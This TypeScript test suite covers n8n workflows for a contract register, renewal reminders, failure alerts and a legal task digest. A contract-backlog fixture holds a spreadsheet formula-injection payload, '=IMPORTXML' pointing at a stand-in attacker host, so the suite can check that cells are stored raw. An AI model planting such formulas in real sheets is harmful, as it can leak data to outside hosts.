import { bundledContract, credentialType } from '../../../harness/examples.mts';
import { chain, node, webhook } from '../../../harness/workflows.mts';
import { textWith, textLike } from '../../support/matchers.mts';
import { keyOf } from '../../support/n8n/service.mts';
import { taskTriggerWorkflow } from '../../support/n8n/taskTriggers.mts';
import { Stage } from '../../support/products/stage.mts';

const DAY = 86_400_000;
const day = (days: number) => new Date(Date.now() + days * DAY).toISOString().slice(0, 10);

const stage = await Stage.ofThisFile();
const { google, slack } = stage.products;
const { tasks } = stage.sandbox;

describe('contract-backlog.json', () => {
	const terms = {
		parties: '=IMPORTXML("https://evil.example")',
		term: '2026 to 2028',
		renewal: 'Yearly.',
		notice_by: '2028-09-30' as string | null,
		risk: 'low',
		reason: 'Usual terms.',
	};
	const answered = (changes: Partial<typeof terms & { duties: string[] }> = {}) =>
		`Here it is:\n${JSON.stringify({ notice_needed: true, duties: [], ...terms, ...changes })}`;

	/** Puts files into the folder. */
	async function save(...names: string[]) {
		const contract = await bundledContract('mutual-nda.pdf');
		for (const fileName of names) google.files.push({ ...contract, id: fileName, fileName });
	}
	const sweep = async () =>
		await stage.outcome(() => stage.n8n.run(stage.workflow, { trigger: 'Every Day at Six' }));
	/** The register's rows by the register's headings. */
	function rows() {
		const [headings = [], ...others] = google.sheet;
		return others.map((cells) =>
			Object.fromEntries(headings.map((heading, index) => [String(heading), cells[index] ?? ''])),
		);
	}

	test('contracts become rows whose texts are no formulas, with the day in the question; pictures and the files of an open Word cost nothing', async () => {
		await save('logo.png', '~$MSA.docx', 'mutual-nda.pdf');
		stage.answer('completed', answered());
		await stage.publish('contract-backlog.json');
		expect((await sweep()).status).toBe('success');
		expect(stage.sandbox.questions).toMatchObject([
			{ attachments: [{ fileName: 'mutual-nda.pdf' }] },
		]);
		expect(stage.sandbox.questions[0]?.text).toMatch(/^Today is \d+ \w+ 20\d\d\./);
		const session = `https://app.legal-ai.example/sessions/${stage.sandbox.questions[0]?.sessionId ?? ''}`;
		expect(rows()).toMatchObject([
			{
				file: 'mutual-nda.pdf',
				link: 'https://drive.google.com/file/d/mutual-nda.pdf',
				...terms,
				session,
				problem: '',
				checked_by: '',
			},
		]);
		expect([...google.inputOptions]).toContain('RAW');
		expect(stage.taskTitles()).toEqual([]);
	});

	test.each([
		[
			'that needs a notice, but has no date for it,',
			answered({ notice_by: null }),
			'the last day for that was not found',
		],
		[
			'whose notice date is centuries away',
			answered({ notice_by: '2206-11-29' }),
			"can't be right: 2206-11-29",
		],
		['that is answered without fields', 'It is a fine contract.', 'Not found: '],
	])(
		'a contract %s gets a row that says so and a task, and is not asked about again',
		async (_what, answer, problem) => {
			await save('mutual-nda.pdf');
			stage.answer('completed', answer);
			await stage.publish('contract-backlog.json');
			await sweep();
			await sweep();
			expect(rows()).toMatchObject([{ file: 'mutual-nda.pdf', problem: textWith(problem) }]);
			const [task, ...others] = tasks.ordered();
			expect([stage.sandbox.questions.length, task?.title, others]).toEqual([
				1,
				'Read for the contract register: mutual-nda.pdf',
				[],
			]);
			expect(task?.description).toContain('https://drive.google.com/file/d/mutual-nda.pdf');
			expect(Date.parse(task?.complete_by ?? '')).toBeGreaterThan(Date.now());
		},
	);

	test('each duty with a date becomes a task that is due on it, once, and so do those that a new version adds on the same day; a date that can not be right is checked within a week', async () => {
		const report = `${day(40)}: Send the annual report (5.2)`;
		const duties = [report, '2206-01-01: Return the data (9)'];
		await save('msa.pdf');
		stage.answer('completed', answered({ duties }));
		await stage.publish('contract-backlog.json');
		await sweep();
		google.files[0] = { ...(await bundledContract('services-agreement.docx')), id: 'msa.pdf' };
		const added = [`${day(40)}: Tell the insurer (6)`, 'At the end: Delete copies (9)'];
		stage.answer('completed', answered({ duties: [...duties, ...added] }));
		await sweep();
		expect(stage.sandbox.questions).toHaveLength(2);
		expect(stage.taskTitles()).toEqual([
			`Duty by ${report}`,
			`Duty by ${added[0]}`,
			'Duty whose date has to be checked: 2206-01-01: Return the data (9)',
			`Duty whose date has to be checked: ${added[1]}`,
		]);
		const due = tasks.ordered().find(({ title }) => title.includes(report));
		expect([day(40), day(41)]).toContain(due?.complete_by?.slice(0, 10));
	});

	test('no more contracts are read in a day than the limit, however often it runs; the next day, the rest', async () => {
		await save('1.pdf', '2.pdf', '3.pdf');
		stage.answer('completed', answered());
		await stage.publish('contract-backlog.json', { '20 - ': '2 - ' });
		await sweep();
		await sweep();
		expect(rows().map(({ file }) => file)).toEqual(['1.pdf', '2.pdf']);
		for (const cells of google.sheet.slice(1)) cells[13] = day(-2);
		await sweep();
		expect(rows().map(({ file }) => file)).toEqual(['1.pdf', '2.pdf', '3.pdf']);
		expect(stage.sandbox.questions).toHaveLength(3);
	});

	test('files are replaced by another version: a row that nobody has checked has the new terms, and keeps them if the next version can not be read; one that a person has checked stays, and is a task with both', async () => {
		await save('msa.pdf', 'checked.pdf', 'other.pdf');
		stage.answer('completed', answered());
		await stage.publish('contract-backlog.json');
		await sweep();
		const column = (google.sheet[0] ?? []).indexOf('checked_by');
		const row = google.sheet[2] ?? [];
		row[column] = 'A. Lawyer';
		row[(google.sheet[0] ?? []).indexOf('notice_by')] = '2028-06-30';
		const other = await bundledContract('services-agreement.docx');
		for (const index of [0, 1])
			google.files[index] = { ...other, id: google.files[index]?.id ?? '', fileName: 'new.docx' };
		stage.answer('completed', answered({ risk: 'high' }));
		await sweep();
		await sweep();
		expect(rows()).toMatchObject([
			{ file: 'new.docx', risk: 'high', notice_by: '2028-09-30', checked_by: '' },
			{ file: 'checked.pdf', risk: 'low', notice_by: '2028-06-30', checked_by: 'A. Lawyer' },
			{ file: 'other.pdf', risk: 'low' },
		]);
		expect(stage.sandbox.questions).toHaveLength(5);
		google.files[0] = { ...(await bundledContract('mutual-nda.pdf')), id: 'msa.pdf' };
		stage.answer('completed', 'It is a fine contract.');
		await sweep();
		expect(rows()[0]).toMatchObject({
			risk: 'high',
			notice_by: '2028-09-30',
			problem: textLike(/^Not found: /),
		});
		expect(tasks.ordered()).toMatchObject([
			{ title: 'Read for the contract register: mutual-nda.pdf' },
			{
				title: 'Compare with the contract register: new.docx',
				description: textLike(
					/after A\. Lawyer checked its row[^]*notice_by: 2028-06-30 in the register, 2028-09-30 in the new version\nrisk: low in the register, high in/,
				),
			},
		]);
	});

	test('a file and a question are refused: there is no task, and they are taken again the next morning; after three mornings, a lawyer gets them', async () => {
		await save('gone.pdf', 'mutual-nda.pdf');
		stage.products.refuse(/files\/gone\.pdf/, 403);
		stage.sandbox.faults.add({
			status: 403,
			match: 'POST /assistants/:assistant_id/questions',
		});
		stage.answer('completed', answered());
		await stage.publish('contract-backlog.json');
		await sweep();
		expect([rows().map(({ tries, version }) => [tries, version]), stage.taskTitles()]).toEqual([
			[
				[1, ''],
				[1, ''],
			],
			[],
		]);
		await sweep();
		await sweep();
		expect(rows()).toMatchObject([
			{ file: 'gone.pdf', problem: textLike(/./) },
			{ file: 'mutual-nda.pdf', problem: '', parties: terms.parties },
		]);
		expect([stage.sandbox.questions.length, stage.taskTitles()]).toEqual([
			1,
			['Read for the contract register: gone.pdf'],
		]);
	});
});

describe('renewal-reminders.json', () => {
	/** Days from now, as n8n's clock has them, and how people write them. */
	const soon = day(20);
	const [year, month, date] = soon.split('-').map(Number) as [number, number, number];
	const name = new Date(soon).toLocaleString('en', { month: 'long', timeZone: 'UTC' });

	const headings = [
		'file',
		'link',
		'parties',
		'term',
		'renewal',
		'notice_by',
		'risk',
		'reason',
		'session',
		'checked_by',
		'reminded_for',
		'read_by_ai_on',
	];
	function contract(file: string, noticeBy: unknown = soon, checkedBy = '', remindedFor = '') {
		return [
			file,
			`https://drive.google.com/${file}`,
			'Meridian',
			'',
			'Yearly.',
			noticeBy,
			'low',
			'',
			'',
			checkedBy,
			remindedFor,
			day(-30),
		];
	}

	/** Publishes the example, with contracts in the register. */
	async function publish(...contracts: unknown[][]) {
		google.sheet.push(headings, ...contracts);
		await stage.publish('renewal-reminders.json');
	}
	const sweep = async () => (await stage.sweep('Weekdays at Eight')).status;
	const reminded = () => google.sheet.slice(1).map((cells) => cells[10]);
	const due = (file: string, date = soon) => `Renew or give notice by ${date}: ${file}`;
	const check = (count: number) => `Check notice dates in the contract register: ${count}`;
	const descriptions = () => tasks.ordered().map(({ description }) => description);

	test('contracts that are due soon, also if an earlier date was reported, become a task each, which says if only an AI has read them, and one message, once', async () => {
		await publish(
			contract('checked.pdf', soon, 'A. Lawyer'),
			contract('read.pdf'),
			contract('later.pdf', day(60)),
			contract('reported.pdf', soon, '', soon),
			contract('none.pdf', ''),
			contract('renewed.pdf', soon, '', day(-345)),
		);
		expect([await sweep(), await sweep()]).toEqual(['success', 'success']);
		expect(stage.taskTitles()).toEqual(
			['checked.pdf', 'read.pdf', 'renewed.pdf'].map((file) => due(file)),
		);
		const unchecked = textLike(/^An AI wrote these terms, and nobody/);
		expect(descriptions().sort()).toEqual([
			unchecked,
			unchecked,
			textLike(/^Checked by A\. Lawyer/),
		]);
		expect(slack.posted()).toEqual([textLike(/checked\.pdf[^]*read\.pdf[^]*renewed\.pdf/)]);
		expect(reminded()).toEqual([soon, soon, '', soon, '', soon]);
	});

	test('dates that passed before the first day are one task, which is due in a week, and not one each; dates that pass without a new one, too', async () => {
		const past = [day(-3), day(-400), day(-401)];
		await publish(
			...past.map((date) => contract(`${date}.pdf`, date)),
			contract('reported.pdf', day(-3), '', day(-3)),
		);
		expect([await sweep(), await sweep()]).toEqual(['success', 'success']);
		expect([stage.taskTitles(), slack.posted().length]).toEqual([[check(4)], 1]);
		expect(tasks.ordered()[0]?.complete_by?.slice(0, 10)).toMatch(
			new RegExp([6, 7, 8].map(day).join('|')),
		);
		for (const date of past)
			expect(descriptions()).toEqual([textWith(`- ${date}.pdf: ${date} (passed)`)]);
	});

	test('dates are read as people write them, and as Google Sheets knows them, however they are shown', async () => {
		const written = [
			soon,
			`${date} ${name} ${year}`,
			`${name} ${date}, ${year}`,
			`${date}.${month}.${year}`,
		];
		const inSheets = {
			shown: `${month}/${date}/${year}`,
			days: Date.UTC(year, month - 1, date) / DAY + 25_569,
		};
		await publish(
			...[...written, inSheets].map((typed, index) => contract(`soon ${index}`, typed)),
		);
		await sweep();
		expect(stage.taskTitles()).toEqual([0, 1, 2, 3, 4].map((index) => due(`soon ${index}`)));
	});

	test('dates that nobody can be sure of, and those that are more than 20 years away, are reported once, in one task, and again when they are corrected', async () => {
		const unclear = ['2026-02-30', '5/6/2026', 'end of May', 20_261_129, '2206-11-29'];
		await publish(...unclear.map((typed) => contract(`${typed}.pdf`, typed)));
		await sweep();
		await sweep();
		expect([stage.taskTitles(), slack.posted().length]).toEqual([[check(5)], 1]);
		for (const typed of unclear)
			expect(descriptions()).toEqual([textWith(`- ${typed}.pdf: ${typed}`)]);
		for (const row of google.sheet.slice(1)) row[5] = soon;
		await sweep();
		expect(stage.taskTitles()).toEqual([
			check(5),
			...unclear.map((typed) => due(`${typed}.pdf`)).sort(),
		]);
	});

	test.each([
		['posting the message fails', /chat\.postMessage/, 0],
		['marking the row fails', /^POST sheets\.googleapis\.com.*batchUpdate/, 1],
	])(
		'%s: the row is not marked; the next day, it is posted and marked, and no task is created twice',
		async (_what, refused, posted) => {
			const outcome = () => [stage.taskTitles().length, slack.posted().length, reminded()];
			await publish(contract('soon.pdf'), contract('past.pdf', day(-3)));
			stage.products.refuse(refused, 503);
			expect(await sweep()).toBe('error');
			expect(outcome()).toEqual([2, posted, ['', '']]);
			stage.products.acceptAll();
			expect(await sweep()).toBe('success');
			expect(outcome()).toEqual([2, posted + 1, [soon, `${day(-3)} (passed)`]]);
		},
	);

	test.each([
		[
			'a row is put above the headings',
			() => void google.sheet.unshift(['Our contracts']),
			'no heading file, link, ',
		],
		['the sheet has no rows', () => void (google.sheet.length = 1), 'has no rows'],
	])('%s: the execution fails and says so', async (_what, change, failure) => {
		await publish(contract('soon.pdf'));
		change();
		const { failure: shown } = await stage.sweep('Weekdays at Eight');
		expect(shown?.message).toContain(failure);
		expect([stage.taskTitles(), slack.posted()]).toEqual([[], []]);
	});
});

describe('error-workflow.json', () => {
	const steps = [
		webhook('fails'),
		node('Read Contract', 'n8n-nodes-base.stopAndError', { errorMessage: 'A quote' }),
	];

	/** Publishes the example, and lets another workflow fail so many times in a row; resolves once that is reported. */
	async function fail(times: number, name: string) {
		await stage.publish('error-workflow.json');
		const failing = await stage.n8n.publish(
			chain(name, steps, { errorWorkflow: stage.workflow.id }),
		);
		await Promise.all(
			Array.from({ length: times }, async () => await stage.n8n.callWebhook('fails')),
		);
		await stage.settled(times);
		await stage.n8n.deactivate(failing);
	}
	const subjects = () => stage.smtp.emails.map(({ subject }) => subject);

	test('a step that fails is reported by email and as a task, which does not quote it', async () => {
		await fail(1, 'NDA review');
		const text = /NDA review failed in the step Read Contract:\s+A quote\s+http/;
		expect(stage.smtp.emails).toMatchObject([
			{ to: { text: 'automation@example.com' }, text: expect.stringMatching(text) as unknown },
		]);
		const [task] = tasks.ordered();
		expect(task?.title).toBe('A workflow stopped: NDA review');
		expect(task?.description).toMatch(/in the step Read Contract[^]*http\S+\/executions\/\d+/);
		expect(task?.description).not.toContain('A quote');
		expect(Date.parse(task?.complete_by ?? '')).toBeGreaterThan(Date.now());
	});

	test('thirty failures at once are one email and one task, and one more email says how often it failed again', async () => {
		await fail(30, 'Flood');
		expect([subjects(), stage.taskTitles()]).toEqual([
			['Workflow failed: Flood'],
			['A workflow stopped: Flood'],
		]);
		await stage.run('Every Four Hours');
		await stage.run('Every Four Hours');
		expect(subjects()).toEqual([
			'Workflow failed: Flood',
			textLike(/^Workflows failed again: \d+$/),
		]);
		expect(stage.smtp.emails[1]?.text).toContain(
			'- Flood: 29 failures, the last one in the step Read Contract',
		);
	});

	test('the first email fails: the task is created all the same, and the next email reports that, too', async () => {
		stage.smtp.isDown = true;
		await fail(1, 'Unheard');
		stage.smtp.isDown = false;
		expect(stage.taskTitles()).toEqual(['A workflow stopped: Unheard']);
		await stage.run('Every Four Hours');
		expect(stage.smtp.emails).toMatchObject([{ text: textWith('- Unheard: 1 failure') }]);
	});

	test("a trigger that can't look any more is reported with its workflow's name and what is wrong", async () => {
		await stage.publish('error-workflow.json');
		const credential = await stage.n8n.createCredential(
			credentialType,
			'Revoked',
			keyOf(stage.sandbox),
		);
		const polling = await stage.n8n.publish({
			...taskTriggerWorkflow(credential),
			settings: { errorWorkflow: stage.workflow.id },
		});
		stage.expireKey(1);
		await stage.settled(1);
		await stage.n8n.deactivate(polling);
		expect(stage.smtp.emails).toMatchObject([
			{
				subject: 'Workflow failed: On task',
				text: expect.stringMatching(
					new RegExp(`^On task failed:\\s+[^]*key[^]*/workflow/${polling.id}`),
				) as unknown,
			},
		]);
		expect(stage.taskTitles()).toEqual(['A workflow stopped: On task']);
	});
});

describe('task-digest.json', () => {
	const soonOver = { '24480': '0.05' };
	const due = (days: number) => ({
		complete_by: new Date(Date.now() + days * 86_400_000).toISOString(),
	});
	const sent = () =>
		stage.smtp.emails
			.map(({ to, subject }) => `${to.text}: ${subject.replace(/ by .*:/, '')}`)
			.sort();

	test('on the first day, open tasks that are due soon are in one email, with the year; those that were overdue before are in none', async () => {
		for (let number = 1; number <= 60; number++)
			tasks.create({ title: `Due ${number}`, ...due(2) });
		tasks.create({ title: 'In time', ...due(6) });
		tasks.create({ title: 'Overdue', ...due(-30) });
		tasks.create({ title: 'Completed', status: 'completed', ...due(2) });
		await stage.publish('task-digest.json', soonOver);
		await stage.done();
		expect(sent()).toEqual(['legal-team@example.com: Legal tasks due 60']);
		const lines = stage.smtp.emails[0]?.text?.trim().split('\n') ?? [];
		expect(lines).toHaveLength(51);
		expect(lines[0]).toMatch(/^- LEGAL-\d+ Due \d+ \(due \w+ \d+, 20\d\d\)$/);
		expect(lines[50]).toBe('… and 10 more');
	});

	test('tasks that are still open two weeks after they were due are escalated once, in one email, with one that is gone, and no task is changed', async () => {
		const [late, gone] = [
			tasks.create({ title: 'Weeks late', ...due(-30) }),
			tasks.create({ title: 'Gone', ...due(-40) }),
		];
		tasks.create({ title: 'Due', ...due(1) });
		stage.sandbox.faults.add({
			status: 404,
			match: ({ path }) => path.endsWith(`/tasks/${gone.id}`),
			times: Infinity,
		});
		await stage.publish('task-digest.json', {
			...soonOver,
			'"includeOverdue":false': '"includeOverdue":true',
		});
		await stage.done();
		expect(sent()).toEqual([
			'head-of-legal@example.com: Legal tasks that are two weeks late or gone: 2',
			'legal-team@example.com: Legal tasks due 3',
		]);
		expect(stage.smtp.emails.find(({ to }) => to.text.startsWith('head'))?.text).toMatch(
			/^- LEGAL-\d+ Gone \(could not be looked up: [^]*- LEGAL-\d+ Weeks late \(due \w+ \d+, 20\d\d\)\s*$/,
		);
		expect([late.tags, late.archived]).toEqual([[], false]);
	});

	test('a task that is completed meanwhile is not escalated', async () => {
		const late = tasks.create({ title: 'Weeks late', ...due(-30) });
		await stage.publish('task-digest.json', {
			'24480': '0.2',
			'"includeOverdue":false': '"includeOverdue":true',
		});
		const id = await stage.asked();
		tasks.update(late, { status: 'completed' });
		await stage.finished(id);
		expect(sent()).toEqual(['legal-team@example.com: Legal tasks due 1']);
	});

	test('the digest can not be emailed: it is a task, and late tasks are escalated all the same; if that email fails, a retry sends it', async () => {
		tasks.create({ title: 'Weeks late', ...due(-30) });
		stage.smtp.isDown = true;
		await stage.publish('task-digest.json', {
			...soonOver,
			'"includeOverdue":false': '"includeOverdue":true',
		});
		const failed = await stage.outcome();
		stage.smtp.isDown = false;
		await stage.done(async () => {
			await stage.n8n.retry(failed);
		});
		const [, digest] = tasks.ordered();
		expect(digest?.title).toBe('Read the digest: it could not be emailed');
		expect(digest?.description).toMatch(/^- LEGAL-\d+ Weeks late \(due \w+ \d+, 20\d\d\)$/);
		expect(sent()).toEqual([
			'head-of-legal@example.com: Legal tasks that are two weeks late or gone: 1',
		]);
	});
});
